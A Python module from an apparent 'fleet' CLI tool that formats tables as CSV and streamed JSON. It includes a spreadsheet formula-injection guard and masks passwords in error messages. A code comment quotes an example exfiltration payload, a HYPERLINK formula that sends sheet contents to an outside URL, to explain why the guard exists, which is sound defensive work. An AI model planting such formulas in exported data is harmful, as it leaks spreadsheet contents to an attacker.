"""Tables for programs: CSV (one header line, the total last) and JSON (rows, total, meta)."""
from __future__ import annotations

import csv
import io
import json
import re
from typing import Callable, Iterable, Iterator

from .table import Table


# A spreadsheet runs a cell that starts with = + - @ (or a tab / CR before one) as a formula: a user
# named `=HYPERLINK("http://…?"&A1,"…")` (FLEET_USER, `user =`, a teammate's row in a shared state)
# made the manager's `fleet report --format csv` a link that sends the sheet away. Such text cells get
# a leading ' (OWASP's advice), which spreadsheets show as text; numbers, even negative, stay numbers.
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value):
    """`value` safe for a spreadsheet to open (see above); anything but such text unchanged."""
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def to_csv(table: Table) -> str:
    data = table.data()
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_cell(f) for f in data.fields])
    for row in [*data.rows, *([data.total] if data.total is not None else [])]:
        writer.writerow(["" if row.get(f) is None else csv_cell(row.get(f)) for f in data.fields])
    return buf.getvalue()


def to_json_data(table: Table) -> dict:
    data = table.data()
    out = dict(data.meta)
    out[data.rows_key] = data.rows
    if data.total is not None:
        out["total"] = data.total
    out.update(data.after)
    if "notes" not in out and table.notes:
        out["notes"] = list(table.notes)
    return out


def to_json(table: Table) -> str:
    from ..models import to_jsonable
    return json.dumps(to_jsonable(to_json_data(table)), indent=2, allow_nan=False)


def json_text(value) -> str:
    """Any result as the JSON every `--json` prints: indented, keys sorted, dates as ISO text."""
    from ..models import to_jsonable
    return json.dumps(to_jsonable(value), indent=2, sort_keys=True, allow_nan=False) + "\n"


def _item_json(item) -> str:
    from ..models import to_jsonable
    return json.dumps(to_jsonable(item), indent=2, sort_keys=True, allow_nan=False)


def json_list_chunks(key: str, items: Iterable, after: Callable[[], dict] = dict) -> Iterator[str]:
    """json_text({key: [*items], **after()}) a piece at a time, each item made and written only when
    its turn comes: a listing of thousands of records (`fleet runs ls --json`) need not be held whole,
    twice over (objects, then text). The items are the same text json_text gives them; the keys of
    after(), asked once the items are all out (what reading them found: damaged records), come after
    `key`, sorted among themselves. When making an item fails once some are written, the text is
    still closed, with the items written so far and `"error"` saying why it stopped, and the failure
    is raised again for the caller to report."""
    from ..models import to_jsonable
    import itertools
    items = iter(items)
    # The first item is asked for before anything is written: a listing that cannot start (the state
    # DB corrupt, FLEET_HOME not writable) left `{"runs": [` on stdout above its error line.
    first = [_item_json(item) for item in itertools.islice(items, 1)]   # made before the header: it may fail too
    yield "{\n  " + json.dumps(key) + ": ["
    sep = "\n    "
    failed = None
    try:
        for text in itertools.chain(first, map(_item_json, items)):
            yield sep + text.replace("\n", "\n    ")   # JSON text holds no raw newline but its indentation
            sep = ",\n    "
    except Exception as exc:  # noqa: BLE001 — any failure: a reader of stdout still gets whole JSON
        failed = exc
    yield "]" if sep == "\n    " else "\n  ]"
    tail = dict(to_jsonable(after()))
    if failed is not None:
        tail["error"] = _stopped_by(failed)
    for name, value in sorted(tail.items()):
        text = json.dumps(value, indent=2, sort_keys=True, allow_nan=False)
        yield ",\n  " + json.dumps(name) + ": " + text.replace("\n", "\n  ")
    yield "\n}\n"
    if failed is not None:
        raise failed


def _stopped_by(exc: Exception) -> str:
    """Why a listing stopped part-way, in one line (a state URL's password masked, as on stderr)."""
    from ..errors import FleetError
    from ..masking import without_url_passwords
    text = exc.one_line() if isinstance(exc, FleetError) else f"{type(exc).__name__}: {exc}"
    return without_url_passwords(" ".join(text.split()))
